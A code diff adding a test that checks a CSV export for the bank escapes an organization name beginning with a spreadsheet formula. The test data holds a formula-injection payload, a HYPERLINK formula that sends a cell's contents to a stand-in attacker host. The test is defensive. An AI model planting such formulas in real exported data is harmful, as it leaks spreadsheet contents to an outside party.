@@ -197,3 +197,21 @@ test('an unknown number and no number', async () => {
     assert.match(stderr, /^bindery: /);
   }
 });
+
+test('a name that begins like a formula is a text in the list for the bank', async () => {
+  const formula = '=HYPERLINK("https://evil.example/?"&A1;"ООО")';
+  const contract = await soldContract(partner, {
+    holderType: 'corporate',
+    set: {
+      'policyHolder.organization.fullName': formula,
+      'policyHolder.organization.legalForm': undefined,
+    },
+  });
+  await terminate(partner, contract);
+  const file = join(directory, 'formulas.csv');
+  assert.equal((await command('transfers', file)).code, 0);
+  const line = readFileSync(file, 'utf8')
+    .split('\r\n')
+    .find((text) => text.includes(contract.policyNumber));
+  assert.ok(line?.includes(`"'${formula.replaceAll('"', '""')}"`), String(line));
+});
